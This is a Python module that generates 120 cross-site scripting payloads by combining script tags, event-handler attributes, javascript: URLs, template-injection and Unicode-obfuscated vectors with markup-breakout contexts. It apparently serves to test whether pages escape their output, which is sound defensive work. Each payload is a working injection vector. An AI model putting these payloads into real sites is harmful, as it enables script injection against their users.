"""Texts that would run as script where a page failed to escape them: every vector in every context, 120 in all."""

DOES = "alert(1)"
CONTEXTS = (  # how a text may stand in a page, and what leaves that place
    "{}", "\">{}", "'>{}", "</textarea>{}", "</title></style>{}", "</script>{}", "--> ]]>{}", "</option></select></td></table>{}",
)  # fmt: skip
TAGS = (
    f"<script>{DOES}</script>", f"<ScRiPt\t>{DOES}</sCrIpT >", f"<img data-x src=/x.png onerror={DOES}>", f"<svg onload={DOES}>",
    f"<svg><script>{DOES}</script></svg>", f"<a href=javascript:{DOES}>看</a>", f"<a href=\"java\tscript:{DOES}\">看</a>",
    f"<details open ontoggle={DOES}>", f"<iframe srcdoc='<script>{DOES}</script>'></iframe>",
    f"<input autofocus onfocus={DOES}>", f"<object data=javascript:{DOES}></object>",
)  # fmt: skip
WORDS = (
    f"\" autofocus onfocus={DOES} x=\"", f"' onmouseover={DOES} x='", f"{{{{constructor.constructor('{DOES}')()}}}}${{{DOES}}}",
    f"＜script＞{DOES}＜/script＞\u202e\u2028\x01javascript:{DOES}",
)  # fmt: skip
PAYLOADS = tuple(
    f"px{number:03} {context.format(vector)}"
    for number, (vector, context) in enumerate((one, other) for one in (*TAGS, *WORDS) for other in CONTEXTS)
)


def packed(most: int) -> list[str]:
    """All of them, as few texts of at most so many characters as they need."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > most:
            texts.append("")
        texts[-1] += f" {payload}"
    return [text.strip() for text in texts]
